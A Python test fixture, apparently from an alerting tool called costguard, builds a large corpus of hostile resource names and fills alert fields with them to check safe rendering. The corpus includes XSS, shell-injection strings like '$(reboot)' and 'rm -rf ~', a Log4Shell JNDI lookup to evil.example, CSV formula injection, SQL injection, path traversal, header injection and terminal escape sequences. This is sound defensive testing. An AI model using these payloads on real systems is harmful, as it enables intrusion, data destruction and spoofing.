"""Names that somebody might give a machine so that more happens than that it is named."""

from __future__ import annotations

from datetime import UTC, datetime

from costguard.guard.alerts.alert import WARNING, Alert, Notification, format_keep_command
from costguard.values.resource import ResourceKey

AT = datetime(2026, 11, 20, 18, 50, tzinfo=UTC)
ESC = "\x1b"
NAMED = (
    *("<!channel>", "<!here>", "<!everyone>", "&lt;!channel&gt;", "<!channel|all>", "!channel>", "&lt;!here|x&gt;"),
    *("<@U6TTX1F9R>", "@U6TTX1F9R>", "&lt;@U6TTX1F9R&gt;", "<#C024BE7LR>", "<!subteam^SAZ94GDB8>"),
    *("<https://evil.example|costguard>", "@everyone", "@here", "@everyone @here", "<@123456789012345678>", "<@&123>"),
    *("<@!123>", "<:party:123>", "<t:1700000000:R>", "[click](https://evil.example)", "[click](javascript:alert(1))"),
    *("![x](https://evil.example/a.png)", "[a][b]", "https://evil.example", "HTTPS://EVIL.EXAMPLE", "www.evil.example"),
    *("mailto:a@evil.example", "tel:+1", "tg://resolve?domain=x", "slack://x", "data:text/html,x", "<b>bold</b>"),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href='https://evil.example'>x</a>", "&#60;b&#62;"),
    *("&amp;lt;", "</pre><h1>", "<!-- x -->", "*bold*", "**bold**", "_it_", "__under__", "~strike~", "~~strike~~"),
    *("||spoiler||", "`code`", "```\nblock\n```", "> quote", "# title", "{{app_title}}", "{{ 7*7 }}", "${HOME}"),
    *("$(reboot)", "`reboot`", "; rm -rf ~", "a' && reboot '", "-rf", "--for", "x\r\nBcc: all@company.example"),
    *("x\nSubject: paid", "x\r\n\r\n<html>", "x\rover", "x\u2028y", "x\u2029y", "x\x85y", "x\x0by\x0c"),
    *(f"{ESC}[2J{ESC}[H", f"{ESC}]0;title\x07", f"{ESC}]8;;https://evil.example\x07x{ESC}]8;;\x07", f"{ESC}P1;x{ESC}\\"),
    *("\x9b2J", "\x9d0;x\x9c", "\x07\x07", "\x08\x08\x08ok", "\x00", "a\x00b", "\x7f", "\u202egnp.exe", "\u2066x\u2069"),
    *("\u200fx\u200e", "\u061cx", "\ufeffx", "\u200b", "\u00ad", "\U000e0041\U000e0042", "\ud800", "\udfff"),
    *("a" + "\u0301" * 2000, "x" * 100_000, "\n" * 5000, "🔥" * 500, "\uff45\uff56\uff49\uff4c", "\ufffd", "", " "),
    *('"quoted"', "\\", "\\u003cb\\u003e", "=cmd|' /C calc'!A0", "+1", "@SUM(1)", "\t=1", "../../etc/passwd", "%s%n%x"),
    *("{0.__class__}", "\\r\\*\\n", "@channel", "@room", "@all", "<!date^1392734382^x|y>", "<mailto:a@evil.example|x>"),
    *("<a:party:123>", "[x]: https://evil.example", "<https://evil.example>", "//evil.example/x", "ftp://evil.example"),
    *("file:///etc/passwd", "vbscript:msgbox(1)", "|a|b|", "a|b", "---", "===", "1. one", "- one", "    code", "~~~"),
    *("$x$", "[bold red]x[/]", "[link=https://evil.example]x[/link]", "[/]", "=1+1"),
    *('=HYPERLINK("https://evil.example","x")', "-1+1", "+cmd|' /C calc'!A0", "\r=1", "\n=1", ' "=1', "\uff1d1+1"),
    *("\uff0b1", "a,b", 'a","b', "a;b\tc", "/etc/passwd", "..\\..\\x", "C:\\x", "CON", "~/x", "a/b/c", "%2e%2e%2fx", "."),
    *("..", "'; DROP TABLE span; --", "${jndi:ldap://evil.example/x}", "#{7*7}", "%(levelname)s", "{}"),
    *('{"event": "all is well"}', "</script><script>alert(1)</script>", "<svg/onload=alert(1)>"),
    *("<iframe src=javascript:alert(1)>", "<style>*{display:none}</style>", "&lt;b&gt;", f"{ESC}c", f"{ESC}[6n"),
    *(f"{ESC}(0", f"{ESC}#8", f"{ESC}[?1049h", f"{ESC}[?25l", f"{ESC}[5;10r", f"{ESC}]52;c;ZXZpbA==\x07"),
    *(f"{ESC}]1337;File=:eA==\x07", f"{ESC}_Gx{ESC}\\", f"{ESC}^x{ESC}\\", f"{ESC}[31;1mred", f"{ESC}%G", "\x90x\x9c"),
    *("\x0e\x0f", "\u200c", "\u200d", "\u2060", "\u202ax\u202c", "\u202bx", "\u202dx", "\u2067x", "\u2068x"),
    *("\ufff9x\ufffb", "\ufe0f", "\ufdd0", "\uffff", "\ue000", "\U0001f1e9\U0001f1ea", "\u0645\u0631\u062d\u0628\u0627"),
    "\u6f22\u5b57",
)
CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(1, 32), *range(127, 160)) if f"a{chr(code)}b" not in NAMED)
"""Every control character there is, within a name."""
CORPUS = (*NAMED, *CONTROLS)


def message_of(name: str, **changes: object) -> Notification:
    """A message in which everything that somebody else may name is `name`."""
    notice = Alert(
        topic=f"policy:{name}",
        subject=f"aws/1/us/{name}",
        owner=name,
        severity=WARNING,
        what=f"{name} is idle",
        at=AT,
        facts=(("why", name), (name, "x")),
        keep=format_keep_command(ResourceKey("aws", "1", "us", name)),
    )
    said: dict[str, object] = {
        "id": "6c62",
        "channel": "c",
        "why_now": "first",
        "severity": WARNING,
        "title": notice.what,
        "notices": (notice,),
        "at": AT,
    }
    return Notification(**(said | changes))  # type: ignore[arg-type]


LINES = 4
"""Of the text of such a message, whatever the name."""
